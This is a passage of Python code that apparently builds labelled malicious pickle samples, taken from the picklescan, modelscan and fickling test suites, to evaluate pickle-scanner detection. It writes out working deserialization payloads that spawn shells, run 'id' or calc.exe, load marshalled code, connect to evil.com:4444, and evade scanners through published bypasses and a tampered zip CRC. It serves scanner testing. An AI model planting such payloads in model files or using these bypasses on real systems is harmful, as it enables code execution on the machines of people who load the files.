        ("subprocess.run", subprocess.run, (["id"],)),
        ("subprocess.check_output", subprocess.check_output, (["id"],)),
        ("builtins.eval", eval, ("__import__('os').system('id')",)),
        ("builtins.exec", exec, ("import os; os.system('id')",)),
        ("builtins.compile", compile, ("import os", "<string>", "exec")),
        ("builtins.__import__", __import__, ("os",)),
        ("builtins.getattr", getattr, (object, "__class__")),
        ("socket.create_connection", socket.create_connection, (("evil.com", 4444),)),
        ("socket.socket", socket.socket, ()),
        ("runpy.run_path", runpy.run_path, ("/tmp/malicious.py",)),
        ("runpy.run_module", runpy.run_module, ("os",)),
        ("cProfile.run", cProfile.run, ("import os",)),
        ("code.InteractiveInterpreter", code.InteractiveInterpreter, ()),
        ("importlib.import_module", importlib.import_module, ("os",)),
        ("marshal.loads", marshal.loads, (code_bytes,)),
        ("ctypes.CDLL", ctypes.CDLL, ("libc.so.6",)),
        ("pty.spawn", pty.spawn, ("/bin/sh",)),
        ("pydoc.locate", pydoc.locate, ("os.system",)),
        (
            "multiprocessing.util.spawnv_passfds",
            multiprocessing.util.spawnv_passfds,
            (b"/bin/sh", [b"-c"], ()),
        ),  # fmt: skip
        ("sys.exit", sys.exit, (0,)),
        ("posix.system", os.system, ("id",)),
    ]


def _bypasses() -> list[tuple[str, bytes]]:
    import marshal

    code = marshal.dumps(compile('import os\nos.system("id")', "<string>", "exec"))
    g = functools.partial(_global, protocol=4)
    return [
        (
            "GHSA-r7v6-mfhq-g3m2 (pty.spawn + BUILD)",
            b"\x80\x04" + g("pty", "spawn") + _body(("id",), 4) + b"R" + _body("gottem", 4) + b"b.",
        ),  # fmt: skip
        ("PR 108 (pty spawn via OBJ)", b"(cpty\nspawn\nS'id'\no."),
        (
            "GHSA-565g-hwwr-4pp3 (marshal.loads + types.FunctionType)",
            b"\x80\x04"
            + g("types", "FunctionType")
            + g("marshal", "loads")
            + _body((code,), 4)
            + b"R"
            + b"}\x86R)R.",
        ),  # fmt: skip
        (
            "GHSA-wfq2-52f7-7qvj (runpy.run_path)",
            reduce_pickle("runpy", "run_path", ("/tmp/malicious.py",), 5),
        ),  # fmt: skip
        (
            "GHSA-p523-jq9w-64x9 (cProfile.run)",
            reduce_pickle("cProfile", "run", ("print('x')",), 5),
        ),  # fmt: skip
        (
            "GHSA-5hvc-6wx8-mvv4 (getattr(ctypes.CDLL(libc), 'system'))",
            b"\x80\x05"
            + g("builtins", "getattr")
            + g("ctypes", "CDLL")
            + _body(("libc.dylib",), 4)
            + b"R"
            + _body("system", 4)
            + b"\x86R"
            + _body((b"id",), 4)
            + b"R.",
        ),  # fmt: skip
        (
            "GHSA-5hvc-6wx8-mvv4 (pydoc.locate + BUILD on Exception)",
            b"cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\nC\x08calc.exeK\x01\x86Rp1\n0cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb.",
        ),  # fmt: skip
        (
            "GHSA-q5qq-mvfm-j35x (getattr(importlib.import_module('os'), 'system'))",
            b"\x80\x05"
            + g("builtins", "getattr")
            + g("importlib", "import_module")
            + _body(("os",), 4)
            + b"R"
            + _body("system", 4)
            + b"\x86R"
            + _body(("id",), 4)
            + b"R.",
        ),  # fmt: skip
        (
            "GHSA-q5qq-mvfm-j35x (code.InteractiveInterpreter().runsource)",
            b"\x80\x05"
            + g("builtins", "getattr")
            + g("code", "InteractiveInterpreter")
            + b")R"
            + _body("runsource", 4)
            + b"\x86R"
            + _body(('import os; os.system("id")',), 4)
            + b"R.",
        ),  # fmt: skip
        (
            "GHSA-q5qq-mvfm-j35x (multiprocessing.util.spawnv_passfds)",
            reduce_pickle(
                "multiprocessing.util",
                "spawnv_passfds",
                (b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ()),
                5,
            ),
        ),  # fmt: skip
    ]


def _fickling_injected(model_path: Any, tmp: Any) -> list[PeerSample]:
    from fickling.pytorch import PyTorchModelWrapper

    out = []
    for how in ("insertion", "combination"):
        dest = tmp / f"injected_{how}.pth"
        PyTorchModelWrapper(model_path).inject_payload("print('Hello, World!')", dest, injection=how)  # fmt: skip
        out.append(PeerSample(FICKLING, f"test_pytorch injection={how}", dest.name, dest.read_bytes(), True,
                              "fickling's own injector on a small model (torchvision not installed)"))  # fmt: skip
    return out


def fickling_samples() -> list[PeerSample]:
    """fickling's test_bypasses, test_attack_vectors (protocols 0-5), test_cve_patterns and
    test_pytorch samples."""
    import ctypes.util
    import importlib.util
    import os
    import subprocess
    import tempfile
    from pathlib import Path

    suite = FICKLING
    out = [PeerSample(suite, name, f"bypass{i}.pkl", data, True) for i, (name, data) in enumerate(_bypasses())]  # fmt: skip
    for name, func, args in _attack_vectors():
        for proto in range(6):
            out.append(PeerSample(suite, f"attack {name} protocol {proto}", f"{name}.p{proto}.pkl", _real_reduce(func, args, proto), True))  # fmt: skip
    out.append(PeerSample(suite, "attack types.FunctionType (STACK_GLOBAL)", "types.FunctionType.pkl", _stack_global_only("types", "FunctionType"), True))  # fmt: skip
    evil = _real_reduce(os.system, ("id",), 4)
    crc = bytearray(zip_bytes({"data.pkl": evil}))
    cd = crc.find(b"PK\x01\x02") + 16
    crc[cd : cd + 4] = bytes(b ^ 0xFF for b in crc[cd : cd + 4])
    out += [
        PeerSample(
            suite,
            "cve os.path.join (unused result)",
            "ospath.pkl",
            _real_reduce(os.path.join, ("/", "tmp"), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve subprocess.Popen (STACK_GLOBAL)",
            "popen.pkl",
            _stack_global_only("subprocess", "Popen"),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve multiprocessing.util.spawnv_passfds (STACK_GLOBAL)",
            "spawnv.pkl",
            _stack_global_only("multiprocessing.util", "spawnv_passfds"),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve ctypes.util.find_library",
            "ctypesutil.pkl",
            _real_reduce(ctypes.util.find_library, ("c",), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve importlib.util.find_spec",
            "importlibutil.pkl",
            _real_reduce(importlib.util.find_spec, ("os",), 4),
            True,
        ),  # fmt: skip
        PeerSample(suite, "CVE-2025-10156 zip central-directory CRC", "crc.zip", bytes(crc), True),
        PeerSample(
            suite,
            "cve valid zip model/data.pkl",
            "valid.zip",
            zip_bytes({"model/data.pkl": evil}),
            True,
        ),  # fmt: skip
        PeerSample(suite, "CVE-2025-10155 .bin extension", "model.bin", evil, True),
        PeerSample(
            suite,
            "CVE-2025-10155 .pt extension",
            "model.pt",
            _real_reduce(subprocess.call, (["id"],), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "CVE-2025-10155 .pth extension",
            "model.pth",
            _real_reduce(eval, ("1+1",), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "CVE-2025-10155 no extension",
            "model",
            _real_reduce(__import__("socket").socket, (), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "CVE-2025-10155 .txt extension",
            "model.txt",
            _real_reduce(__import__("pty").spawn, ("/bin/sh",), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve sys.modules (STACK_GLOBAL)",
            "sysmodules.pkl",
            _stack_global_only("sys", "modules"),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve code.InteractiveConsole",
            "console.pkl",
            _real_reduce(__import__("code").InteractiveConsole, (), 4),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "cve runpy._run_code",
            "runcode.pkl",
            reduce_pickle("runpy", "_run_code", (), 4),
            True,
        ),  # fmt: skip
    ]
    with tempfile.TemporaryDirectory() as tmp:
        model = Path(tmp) / "test_model.pth"
        model.write_bytes(_torch(_small_model()))
        out.append(PeerSample(suite, "test_pytorch clean model (torch.save(model))", "test_model.pth", model.read_bytes(), False))  # fmt: skip
        out += _fickling_injected(model, Path(tmp))
    return out


def build_peer_samples() -> list[PeerSample]:
    """All three suites' samples, in suite order."""
    return [*picklescan_samples(), *modelscan_samples(), *fickling_samples()]
